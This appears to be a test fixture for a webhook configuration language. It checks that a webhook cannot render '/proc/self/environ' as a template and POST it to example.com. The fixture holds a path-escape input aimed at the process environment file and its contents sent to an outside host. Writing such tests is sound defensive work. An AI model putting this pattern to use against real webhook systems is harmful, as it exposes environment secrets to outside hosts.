// expect: template 'proc/self/environ' not found
webhook('escape') {
    on 'Project:Created'
    request {
        post 'https://example.com/'
        body template('proc/self/environ')
    }
}
